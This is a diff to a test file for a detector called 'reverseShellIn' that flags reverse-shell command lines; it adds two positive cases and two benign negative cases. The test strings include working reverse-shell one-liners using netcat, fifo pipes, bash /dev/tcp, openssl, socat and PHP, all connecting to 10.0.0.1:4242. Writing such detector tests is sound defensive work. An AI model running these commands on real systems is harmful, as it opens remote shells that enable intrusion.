@@ -17,6 +17,8 @@ describe("reverseShellIn", () => {
     expect(reverseShellIn("nc -c bash 10.0.0.1 4242")).toBe("netcat running a program for the connection");
     expect(reverseShellIn("ncat --lua-exec shell.lua 10.0.0.1 4242")).toBe("netcat running a program for the connection");
     expect(reverseShellIn("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f")).toBe("a shell piped to and from netcat");
+    expect(reverseShellIn("cat /tmp/f|/bin/sh 2>&1|nc 10.0.0.1 4242 >/tmp/f")).toBe("a shell piped to and from netcat");
+    expect(reverseShellIn("/bin/sh 0</dev/tcp/10.0.0.1/4242 1>&0 2>&0")).toBe("a shell reading bash's /dev/tcp");
     expect(reverseShellIn("openssl s_client -quiet -connect 10.0.0.1:4242 | /bin/bash")).toBe("a shell piped to and from netcat");
     expect(reverseShellIn("socat TCP:10.0.0.1:4242 EXEC:sh")).toBe("socat joining a connection to a program");
     expect(reverseShellIn("php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"sh <&3 >&3 2>&3\");'")).toBe("PHP's socket made a shell's input");
@@ -41,6 +43,8 @@ describe("reverseShellIn", () => {
       "perl -e 'print 1' | sh",
       "ssh -i ~/.ssh/deploy host 'git pull'",
       "shasum -a 256 file | nc -q 0 localhost 9000",
+      "nc -z localhost 5432 || sh ./scripts/start-db.sh",
+      "cat build.log | sh ./report.sh | nc localhost 9000",
     ]) {
       expect(reverseShellIn(line), line).toBeUndefined();
     }
